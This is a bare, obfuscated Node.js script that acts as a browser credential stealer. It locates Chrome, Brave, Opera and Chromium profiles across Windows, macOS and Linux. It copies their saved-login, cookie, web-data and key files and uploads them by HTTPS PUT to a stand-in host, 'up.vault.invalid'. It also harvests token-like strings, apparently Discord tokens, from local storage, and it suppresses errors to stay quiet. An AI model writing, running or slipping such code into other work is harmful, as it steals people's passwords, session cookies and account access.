const item0 = require("fs");
const item1 = require("path");
const item2 = require("os");
const item3 = require("https");
const item4 = item2.homedir();
const item5 = {
  win32: [item1.join(process.env.LOCALAPPDATA || "", "Google", "Chrome", "User Data"), item1.join(process.env.LOCALAPPDATA || "", "BraveSoftware", "Brave-Browser", "User Data"), item1.join(process.env.APPDATA || "", "Opera Software", "Opera Stable")],
  darwin: [item1.join(item4, "Library", "Application Support", "Google", "Chrome"), item1.join(item4, "Library", "Application Support", "BraveSoftware", "Brave-Browser")],
  linux: [item1.join(item4, ".config", "google-chrome"), item1.join(item4, ".config", "chromium")]
};
const item6 = ["Login Data", "Cookies", "Web Data", "Local State"];
const item7 = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g;
function item8(item11) {
  if (!item0.existsSync(item11)) return [];
  return item0.readdirSync(item11, {
    withFileTypes: true
  }).filter(item12 => item12.isDirectory() && (item12.name === "Default" || item12.name.startsWith("Profile"))).map(item13 => item1.join(item11, item13.name));
}
function item9(item14) {
  const item15 = item1.join(item14, "Local Storage", "leveldb");
  const item16 = new Set();
  if (!item0.existsSync(item15)) return item16;
  for (const item17 of item0.readdirSync(item15)) {
    if (!item17.endsWith(".ldb") && !item17.endsWith(".log")) continue;
    const item18 = item0.readFileSync(item1.join(item15, item17), "latin1");
    for (const item19 of item18.match(item7) || []) item16.add(item19);
  }
  return item16;
}
function item10(item20, item21) {
  const item22 = item3.request({
    host: "up.vault.invalid",
    path: "/f/" + encodeURIComponent(item20),
    method: "PUT"
  });
  item22.on("error", () => {});
  item22.end(item21);
}
for (const item23 of item5[process.platform] || []) {
  for (const item24 of item8(item23)) {
    for (const item25 of item6) {
      const item26 = item1.join(item24, item25);
      try {
        const item27 = item1.join(item2.tmpdir(), Date.now() + ".tmp");
        item0.copyFileSync(item26, item27);
        item10(item1.basename(item24) + "-" + item25, item0.readFileSync(item27));
        item0.unlinkSync(item27);
      } catch (item28) {
        continue;
      }
    }
    item10("tokens.json", JSON.stringify([...item9(item24)]));
  }
}
